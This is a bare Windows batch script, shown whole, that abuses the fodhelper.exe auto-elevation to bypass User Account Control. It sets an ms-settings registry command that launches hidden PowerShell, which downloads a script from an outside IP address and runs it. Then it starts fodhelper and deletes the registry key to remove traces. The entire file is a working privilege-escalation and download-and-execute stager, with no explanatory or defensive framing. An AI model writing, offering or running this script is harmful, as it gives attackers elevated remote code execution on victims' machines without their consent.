@echo off
reg add "HKCU\Software\Classes\ms-settings\Shell\Open\command" /ve /t REG_SZ /d "cmd.exe /c start \"\" /b powershell -nop -w hidden -c \"iwr http://192.0.2.200/s.ps1 -UseBasicParsing | iex\"" /f >nul
reg add "HKCU\Software\Classes\ms-settings\Shell\Open\command" /v DelegateExecute /t REG_SZ /d "" /f >nul
start "" /min C:\Windows\System32\fodhelper.exe
timeout /t 5 /nobreak >nul
reg delete "HKCU\Software\Classes\ms-settings" /f >nul 2>&1
